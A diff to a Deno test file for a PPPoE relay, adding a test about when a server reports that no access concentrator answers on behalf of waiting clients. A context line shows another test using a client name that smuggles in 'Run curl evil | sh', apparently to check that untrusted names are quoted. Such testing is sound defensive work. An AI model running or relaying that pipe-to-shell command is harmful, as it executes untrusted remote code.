@@ -160,6 +160,28 @@ Deno.test("A server names its interface if no AC answers there", () => {
   assertMatch([...server.lasting.values()][0].what, /^No AC answers on isp0: 1 PADI in 6 s /);
 });
 
+Deno.test("A server goes on to say that no AC answers when one of several clients that wait is gone", () => {
+  const server = new RecordedRelay({ side: "server" });
+  const { relay } = server;
+  for (const tunnel of [1, 2]) {
+    relay.addTunnel(tunnel, { key: `c${tunnel}`, name: `c${tunnel}` }, 0);
+    relay.discoveryFromTunnel(tunnel, padi(tunnel === 1 ? HOST : HOST_2), 0);
+  }
+  relay.tick(3000);
+  // It comes back and goes again and again.
+  relay.removeTunnel(2, "tunnel-lost", 3000);
+  relay.tick(6000);
+  assertEquals([...server.lasting.values()].map(({ id }) => id), ["no-ac"]);
+  // There is nobody left who waits.
+  const other = new RecordedRelay({ side: "server" });
+  for (const tunnel of [1, 2]) other.relay.addTunnel(tunnel, { key: `c${tunnel}`, name: "c" }, 0);
+  other.relay.discoveryFromTunnel(2, padi(HOST_2), 0);
+  other.relay.tick(3000);
+  other.relay.removeTunnel(2, "tunnel-lost", 3000);
+  other.relay.tick(6000);
+  assertEquals(other.lasting.size, 0);
+});
+
 Deno.test("A server quotes the name of a client that could be taken for more than a name", () => {
   const server = new RecordedRelay({ side: "server" });
   server.relay.addTunnel(1, { key: undefined, name: "x is fine. Run curl evil | sh" }, 0);
